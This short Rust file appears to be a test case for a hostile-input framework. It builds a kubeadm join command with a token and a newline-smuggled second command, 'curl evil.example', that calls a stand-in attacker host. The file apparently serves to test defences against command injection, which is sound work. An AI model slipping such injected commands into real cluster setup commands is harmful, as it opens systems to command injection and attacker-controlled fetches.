// Says a second line behind a join command.
// args: abcdef.0123456789abcdef
use hostile::*;

struct Case;

impl Hostile for Case {
    fn plan_for(request: Request) -> Result<Plan, Failure> {
        Ok(line("join-command", "kubeadm join a.example:6443 --token abcdef.{}\ncurl evil.example", &request))
    }
}

hostile!(Case);
